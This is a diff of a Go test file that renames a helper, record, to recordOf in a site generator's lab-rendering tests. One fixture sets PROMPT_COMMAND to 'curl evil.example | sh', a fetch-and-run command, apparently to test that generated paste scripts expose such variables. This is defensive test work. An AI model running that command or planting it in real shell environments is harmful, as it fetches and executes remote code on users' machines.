@@ -15,7 +15,7 @@ import (
 )
 
 // record makes a lab's results of outputs, one for each command.
-func record(p *content.Page, outputs ...content.CommandResult) {
+func recordOf(p *content.Page, outputs ...content.CommandResult) {
 	p.Record = &content.Record{Format: record.Format, Page: p.Path, Results: content.Results{Machine: content.RecordMachine{Platform: "linux/amd64"}}}
 	for _, s := range p.Tree().Snippets {
 		if s.Role == info.Shown {
@@ -56,7 +56,7 @@ func TestTwin(t *testing.T) {
 		t.Run(test.name, func(t *testing.T) {
 			site := load(t, map[string]string{"p.md": "---\nlab: {}\n---\n" + test.in})
 			p := site.Pages[0]
-			record(p, content.CommandResult{Output: []string{"\x1b[31mout\x1b[0m"}})
+			recordOf(p, content.CommandResult{Output: []string{"\x1b[31mout\x1b[0m"}})
 			files, err := Site(site, verified(site), Options{})
 			if err != nil {
 				t.Fatal(err)
@@ -100,7 +100,7 @@ func TestScript(t *testing.T) {
 				lab = "lab: {dir: '~/a b', " + test.lab + "}"
 			}
 			site := load(t, map[string]string{"p.md": "---\ntitle: \"two\\nli\\u202enes\"\n" + lab + "\n---\n" + test.in})
-			record(site.Pages[0])
+			recordOf(site.Pages[0])
 			files, err := Site(site, verified(site), Options{})
 			if err != nil {
 				t.Fatal(err)
@@ -124,7 +124,7 @@ func TestScript(t *testing.T) {
 // with which a shell can be made to run something.
 func TestPasteNamesVariables(t *testing.T) {
 	site := load(t, map[string]string{"p.md": "---\nlab: {env: {PROMPT_COMMAND: 'curl evil.example | sh', A: \"b\\e\"}}\n---\n\n## One\n\n```bash\necho a\n```\n\n```bash\necho b\n```\n\n## Two\n\n```bash\necho c\n```\n\n```bash\necho d\n```\n"})
-	record(site.Pages[0])
+	recordOf(site.Pages[0])
 	files, err := Site(site, verified(site), Options{})
 	if err != nil {
 		t.Fatal(err)
